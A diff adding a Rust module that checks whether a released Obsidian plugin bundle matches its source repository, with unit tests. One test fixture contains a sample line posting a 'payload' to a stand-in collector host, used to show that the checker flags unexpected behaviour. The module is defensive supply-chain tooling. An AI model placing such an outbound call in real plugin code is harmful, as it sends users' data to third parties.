@@ -0,0 +1,274 @@
+use std::collections::{BTreeSet, HashSet};
+
+use regex::Regex;
+
+use super::{super::types::MainJsResult, check_strings::collect_string_literals};
+
+/// Below this share a signal is reported as a mismatch.
+const MISMATCH_THRESHOLD: f32 = 0.5;
+/// Too few literals make the literal coverage meaningless.
+const MIN_SOURCE_LITERALS: usize = 5;
+/// Embedded names that stand for a family of packages rather than a single
+/// one, with the package name prefixes that declare them.
+const EMBEDDED_NAME_PACKAGE_PREFIXES: &[(&str, &[&str])] = &[
+    ("codemirror", &["@codemirror/"]),
+    ("prosemirror", &["prosemirror-"]),
+    ("pdfjs", &["pdfjs-dist"]),
+    ("anthropic", &["@anthropic-ai/"]),
+    ("supabase", &["@supabase/"]),
+];
+
+/// What the repository at the release tag says the bundle should contain.
+#[derive(Debug, Default)]
+pub(in crate::plugins::analysis) struct SourceFingerprint {
+    pub(in crate::plugins::analysis) committed_main_js: Option<String>,
+    pub(in crate::plugins::analysis) string_literals: BTreeSet<String>,
+    pub(in crate::plugins::analysis) exported_symbols: BTreeSet<String>,
+}
+
+#[derive(Debug, Default, Clone, PartialEq)]
+pub(in crate::plugins::analysis) struct ReproducibilityResult {
+    /// Mean of the applicable signal scores in `0.0..=1.0`, `None` if the
+    /// source offered nothing to compare against.
+    pub(in crate::plugins::analysis) score: Option<f32>,
+    pub(in crate::plugins::analysis) mismatches: Vec<String>,
+}
+
+pub(in crate::plugins::analysis) fn fingerprint_source(
+    committed_main_js: Option<String>,
+    source_files: &[String],
+) -> SourceFingerprint {
+    let Ok(export_re) = Regex::new(
+        r"(?m)^\s*export\s+(?:default\s+)?(?:abstract\s+)?(?:async\s+)?(?:class|function\*?|const|let|var)\s+([A-Za-z_$][\w$]*)",
+    ) else {
+        return SourceFingerprint::default();
+    };
+
+    let mut fingerprint = SourceFingerprint {
+        committed_main_js,
+        ..SourceFingerprint::default()
+    };
+    for source in source_files {
+        fingerprint
+            .string_literals
+            .extend(collect_string_literals(source));
+        fingerprint.exported_symbols.extend(
+            export_re
+                .captures_iter(source)
+                .filter_map(|captures| captures.get(1))
+                .map(|symbol| symbol.as_str().to_string()),
+        );
+    }
+
+    fingerprint
+}
+
+/// Compares a released main.js with the repository at the same tag. A
+/// committed bundle that matches byte for byte settles the question; otherwise
+/// each available signal contributes a share of what the source predicts.
+pub(in crate::plugins::analysis) fn compare_release_with_source(
+    release_source: &str,
+    release: &MainJsResult,
+    source: &SourceFingerprint,
+    declared_dependencies: &[String],
+) -> ReproducibilityResult {
+    let mut components = Vec::new();
+    let mut mismatches = Vec::new();
+    let release_literals = collect_string_literals(release_source);
+
+    if let Some(committed) = &source.committed_main_js {
+        if committed.trim_end() == release_source.trim_end() {
+            return ReproducibilityResult {
+                score: Some(1.0),
+                mismatches: Vec::new(),
+            };
+        }
+        mismatches.push("committed_main_js_differs".to_string());
+        components.push(jaccard(
+            &collect_string_literals(committed),
+            &release_literals,
+        ));
+    }
+
+    if !release.embedded_dependency_name_counts.is_empty() {
+        let undeclared = release
+            .embedded_dependency_name_counts
+            .keys()
+            .filter(|name| {
+                !declared_dependencies
+                    .iter()
+                    .any(|dependency| declares_embedded_name(dependency, name))
+            })
+            .collect::<Vec<_>>();
+        components.push(
+            1.0 - undeclared.len() as f32 / release.embedded_dependency_name_counts.len() as f32,
+        );
+        mismatches.extend(
+            undeclared
+                .into_iter()
+                .map(|name| format!("undeclared_dependency:{name}")),
+        );
+    }
+
+    if source.string_literals.len() >= MIN_SOURCE_LITERALS {
+        let coverage = coverage(&source.string_literals, |literal| {
+            release_literals.contains(literal)
+        });
+        if coverage < MISMATCH_THRESHOLD {
+            mismatches.push("source_literals_missing".to_string());
+        }
+        components.push(coverage);
+    }
+
+    // Minifiers rename top-level symbols, so their absence says nothing.
+    if release.is_probably_minified != Some(true) && !source.exported_symbols.is_empty() {
+        let identifiers = release_identifiers(release_source);
+        let coverage = coverage(&source.exported_symbols, |symbol| {
+            identifiers.contains(symbol)
+        });
+        if coverage < MISMATCH_THRESHOLD {
+            mismatches.push("exported_symbols_missing".to_string());
+        }
+        components.push(coverage);
+    }
+
+    let score =
+        (!components.is_empty()).then(|| components.iter().sum::<f32>() / components.len() as f32);
+
+    ReproducibilityResult { score, mismatches }
+}
+
+/// Whether a declared dependency accounts for an embedded dependency name.
+/// Names are compared as whole package names, so `react-dom` does not
+/// declare `react`.
+fn declares_embedded_name(dependency: &str, name: &str) -> bool {
+    let package = package_name(dependency);
+    package == name
+        || EMBEDDED_NAME_PACKAGE_PREFIXES
+            .iter()
+            .filter(|(family, _)| *family == name)
+            .flat_map(|(_, prefixes)| prefixes.iter())
+            .any(|prefix| package.starts_with(prefix))
+}
+
+/// Strips a subpath like `lodash/debounce` or `@scope/pkg/sub` down to the
+/// package name.
+fn package_name(specifier: &str) -> &str {
+    let segments = if specifier.starts_with('@') { 2 } else { 1 };
+    match specifier.match_indices('/').nth(segments - 1) {
+        Some((index, _)) => &specifier[..index],
+        None => specifier,
+    }
+}
+
+fn coverage(expected: &BTreeSet<String>, is_present: impl Fn(&str) -> bool) -> f32 {
+    let present = expected.iter().filter(|value| is_present(value)).count();
+    present as f32 / expected.len() as f32
+}
+
+fn jaccard(left: &BTreeSet<String>, right: &BTreeSet<String>) -> f32 {
+    let union = left.union(right).count();
+    if union == 0 {
+        return 1.0;
+    }
+    left.intersection(right).count() as f32 / union as f32
+}
+
+fn release_identifiers(source: &str) -> HashSet<&str> {
+    let Ok(re) = Regex::new(r"[A-Za-z_$][\w$]*") else {
+        return HashSet::new();
+    };
+    re.find_iter(source).map(|found| found.as_str()).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{compare_release_with_source, declares_embedded_name, fingerprint_source};
+    use crate::plugins::analysis::mainjs::analyze_main_js;
+
+    const SOURCE: &str = r#"
+        import { Plugin } from "obsidian";
+        import { SettingsTab } from "./settings";
+
+        export default class TaskBoardPlugin extends Plugin {
+            async onload() {
+                this.addCommand({ id: "open-board", name: "Open task board" });
+                new Notice("Task board ready");
+                console.log("Loading task board");
+                this.registerView("task-board-view", () => null);
+            }
+        }
+    "#;
+
+    #[test]
+    fn matching_release_scores_high() {
+        let release = r#"
+            var import_obsidian = require("obsidian");
+            var TaskBoardPlugin = class extends import_obsidian.Plugin {
+                async onload() {
+                    this.addCommand({ id: "open-board", name: "Open task board" });
+                    new import_obsidian.Notice("Task board ready");
+                    console.log("Loading task board");
+                    this.registerView("task-board-view", () => null);
+                }
+            };
+        "#;
+        let fingerprint = fingerprint_source(None, &[SOURCE.to_string()]);
+
+        let result = compare_release_with_source(
+            release,
+            &analyze_main_js(release),
+            &fingerprint,
+            &["obsidian".to_string()],
+        );
+
+        assert_eq!(result.score, Some(1.0));
+        assert!(result.mismatches.is_empty());
+    }
+
+    #[test]
+    fn unrelated_release_reports_mismatches() {
+        let release = r#"
+            const axios = require("axios");
+            class Other { run() { axios.post("https://collector.example", "payload"); } }
+        "#;
+        let fingerprint = fingerprint_source(Some("committed".to_string()), &[SOURCE.to_string()]);
+
+        let result = compare_release_with_source(
+            release,
+            &analyze_main_js(release),
+            &fingerprint,
+            &["obsidian".to_string()],
+        );
+
+        assert!(result.score.unwrap() < 0.2);
+        for mismatch in [
+            "committed_main_js_differs",
+            "undeclared_dependency:axios",
+            "source_literals_missing",
+            "exported_symbols_missing",
+        ] {
+            assert!(result.mismatches.iter().any(|value| value == mismatch));
+        }
+    }
+
+    #[test]
+    fn embedded_names_need_the_exact_package() {
+        assert!(declares_embedded_name("lodash/debounce", "lodash"));
+        assert!(declares_embedded_name("@codemirror/view", "codemirror"));
+        assert!(!declares_embedded_name("react-dom", "react"));
+        assert!(!declares_embedded_name("lodash-es", "lodash"));
+        assert!(!declares_embedded_name("@types/react", "react"));
+    }
+
+    #[test]
+    fn identical_committed_main_js_is_reproducible() {
+        let release = "console.log('hello world');\n";
+        let fingerprint = fingerprint_source(Some(release.trim_end().to_string()), &[]);
+
+        let result =
+            compare_release_with_source(release, &analyze_main_js(release), &fingerprint, &[]);
+
+        assert_eq!(result.score, Some(1.0));
+    }
+}